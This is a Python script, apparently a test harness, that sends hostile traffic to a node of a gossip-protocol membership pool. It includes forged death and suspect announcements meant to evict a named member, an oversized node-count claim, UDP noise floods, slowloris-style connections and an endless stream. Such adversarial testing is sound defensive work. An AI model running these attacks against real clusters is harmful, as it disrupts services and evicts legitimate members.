#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
"""What somebody without the key, or a member gone bad, sends to a node of a pool.

gossip_attack.py KIND ADDRESS PORT [NAME]
  table     a push/pull that announces 2^31-1 nodes
  bury      that NAME is dead, with the greatest incarnation, and with one of next week
  flood     50,000 packets of noise, some as large as they get
  slow      200 connections that say a byte now and then, for 15 s
  pour      a stream of noise without an end, until it is closed
"""
import os
import select
import socket
import struct
import sys
import time


def raw(text):
    data = text.encode()
    assert len(data) < 32
    return bytes([0xa0 | len(data)]) + data


def u32(n):
    return b"\xce" + struct.pack(">I", n)


def poll(seconds):
    select.select([], [], [], seconds)


def dial(addr, port):
    s = socket.create_connection((addr, port), 5, ("127.0.0.99", 0))  # not a member's
    s.settimeout(20)
    return s


def answer(s):
    """All that comes until the other side closes."""
    got = b""
    try:
        while chunk := s.recv(65536):
            got += chunk
    except ConnectionError:
        pass
    return got


def table(addr, port, _):
    s = dial(addr, port)
    s.sendall(b"\x06\x83" + raw("Join") + b"\xc3" + raw("Nodes") + u32(2**31 - 1) +
              raw("UserStateLen") + b"\x00")
    print("answer", len(answer(s)))


def bury(addr, port, name):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for inc in (2**32 - 1, int(time.time()) + 7 * 86400):
        for kind in (5, 3):  # dead, suspect
            s.sendto(bytes([kind]) + b"\x83" + raw("From") + raw("someone") + raw("Incarnation") +
                     u32(inc) + raw("Node") + raw(name), (addr, port))


def flood(addr, port, _):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("127.0.0.99", 0))
    noise = os.urandom(9000)
    for i in range(50000):
        try:
            s.sendto(noise[:9000 if i % 100 == 0 else 40 + i % 1000], (addr, port))
        except BlockingIOError:
            pass
    s.settimeout(0.5)
    try:
        print("answer", len(s.recv(65536)))
    except TimeoutError:
        print("answer 0")


def slow(addr, port, _):
    open_ones = []
    end = time.monotonic() + 15
    while time.monotonic() < end:
        while len(open_ones) < 200:
            s = socket.socket()
            s.bind(("127.0.0.%d" % (100 + len(open_ones) % 100), 0))
            s.setblocking(False)
            s.connect_ex((addr, port))
            open_ones.append(s)
        for s in list(open_ones):
            try:
                s.send(b"\x0a")
            except BlockingIOError:
                pass
            except OSError:
                s.close()
                open_ones.remove(s)
        poll(0.2)


def pour(addr, port, _):
    s = dial(addr, port)
    s.sendall(b"\x0a\x01\x3f\xff\xff")  # as much as a stream may have
    noise, sent = os.urandom(65536), 5
    try:
        while sent < 30 << 20:
            sent += s.send(noise)
    except ConnectionError:
        pass
    print("sent", sent)


if __name__ == "__main__":
    globals()[sys.argv[1]](sys.argv[2], int(sys.argv[3]), (sys.argv + [""])[4])
